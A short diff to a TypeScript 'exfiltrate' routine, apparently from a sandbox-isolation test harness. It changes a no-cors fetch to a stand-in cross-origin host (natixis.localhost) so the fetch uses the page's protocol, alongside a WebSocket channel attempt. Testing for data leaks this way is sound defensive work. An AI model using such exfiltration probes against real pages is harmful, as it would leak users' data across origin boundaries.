@@ -55,7 +55,9 @@ export async function exfiltrate({
     answerOf(new WebSocket(url('socket').replace('http', 'ws')) as unknown as Worker),
   );
   await attempt('another brand', () =>
-    fetch(`http://natixis.localhost:${location.port}/composition`, { mode: 'no-cors' }).then(() => 'sent'),
+    fetch(`${location.protocol}//natixis.localhost:${location.port}/composition`, { mode: 'no-cors' }).then(
+      () => 'sent',
+    ),
   );
 
   // Parts of a page.
